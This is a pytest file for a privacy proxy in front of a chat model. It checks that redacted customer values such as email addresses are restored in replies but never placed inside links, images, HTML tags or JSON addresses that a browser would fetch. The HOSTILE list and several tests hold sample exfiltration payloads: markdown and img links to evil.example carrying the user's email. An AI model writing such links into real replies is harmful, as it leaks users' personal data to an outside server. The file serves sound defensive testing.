"""Where a value must not be put back: in a link, an image or a tag, which the customer's browser would fetch (P7)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from servers import Server, chat_reply, message, tool_call
from ways import CUSTOMER, create, done

import explainbot

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("turn")]

either = pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
MAIL = str(CUSTOMER.email)
HOSTILE = [
    "Look: ![x](https://evil.example/p.png?d={})",
    "Look: [here](https://evil.example/?d={})",
    "Look: https://evil.example/{}",
    'Look: <img src="https://evil.example/{}">',
    "Look: [here][1]\n\n[1]: https://evil.example/?d={}",
]


@either
@pytest.mark.parametrize("template", HOSTILE)
async def test_a_reply_carries_no_value_to_a_strangers_server(
    client: Any, server: Server, streamed: bool, template: str
) -> None:
    server.script(lambda request: chat_reply(request, "To [EMAIL_1]. " + template.format("[EMAIL_1]"), size=1))
    reply = await create(client, streamed, f"I am {MAIL}")
    assert reply.choices[0].message.content == f"To {MAIL}. " + template.format("[EMAIL_1]")


@either
async def test_a_tool_gets_the_value_inside_an_address_it_was_asked_to_open(
    client: Any, server: Server, streamed: bool
) -> None:
    """Tool calls are for the bot's own code, which is not a browser, and needs the real address."""
    asked = message(tool_calls=[tool_call("open", '{"url": "https://crm.example/?mail=[EMAIL_1]"}')])
    server.script(lambda request: chat_reply(request, asked, size=1))
    reply = await create(client, streamed, f"I am {MAIL}")
    arguments = reply.choices[0].message.tool_calls[0].function.arguments
    assert arguments == f'{{"url": "https://crm.example/?mail={MAIL}"}}'


@either
async def test_the_explanation_carries_none_either(client: Any, server: Server, streamed: bool) -> None:
    server.script(lambda request: chat_reply(request, "Your mail is ![x](https://evil.example/[EMAIL_1]).", size=1))
    reply = await create(client, streamed, f"I am {MAIL}")
    assert f"evil.example/{MAIL}" not in explainbot.explanation_of(reply).model_dump_json()


@either
async def test_a_right_to_left_name_is_isolated_for_the_reader_and_exact_for_the_tool(
    client: Any, server: Server, streamed: bool
) -> None:
    asked = message("Hello [PERSON_1], 3 items.", tool_calls=[tool_call("open", '{"name": "[PERSON_1]"}')])
    server.script(lambda request: chat_reply(request, asked, size=1))
    with explainbot.turn(customer=explainbot.Customer(name="محمد علي")):
        reply = await create(client, streamed, "I am محمد علي")
        again = [{"role": "assistant", "content": reply.choices[0].message.content}, {"role": "user", "content": "Yes"}]
        server.script(lambda request: chat_reply(request, "Dear \u2068[PERSON_1]\u2069, bye", size=1))
        second = await done(client.chat.completions.create(model="m", messages=again))
    assert reply.choices[0].message.content == "Hello \u2068محمد علي\u2069, 3 items."
    assert reply.choices[0].message.tool_calls[0].function.arguments == '{"name": "محمد علي"}'
    assert server.last.json()["messages"][0]["content"] == "Hello \u2068[PERSON_1]\u2069, 3 items."
    assert second.choices[0].message.content == "Dear \u2068محمد علي\u2069, bye"


AS_JSON = {"response_format": {"type": "json_object"}}


@either
async def test_a_json_reply_carries_no_value_in_an_address_and_every_other_one(
    client: Any, server: Server, streamed: bool
) -> None:
    said = {"mail": "[EMAIL_1]", "link": "https:\\/\\/evil.example\\/?e=[EMAIL_1]", "html": "<img src='x[EMAIL_1]'>"}
    text = json.dumps(said).replace("\\\\/", "\\/")
    server.script(lambda request: chat_reply(request, text, size=1))
    reply = await create(client, streamed, f"I am {MAIL}", **AS_JSON)
    assert reply.choices[0].message.content == text.replace('"mail": "[EMAIL_1]"', f'"mail": "{MAIL}"')


@either
async def test_plain_text_where_json_was_asked_for_is_read_as_text(client: Any, server: Server, streamed: bool) -> None:
    server.script(lambda request: chat_reply(request, "Sorry [EMAIL_1]: ![x](//evil.example/[EMAIL_1])", size=1))
    reply = await create(client, streamed, f"I am {MAIL}", **AS_JSON)
    assert reply.choices[0].message.content == f"Sorry {MAIL}: ![x](//evil.example/[EMAIL_1])"
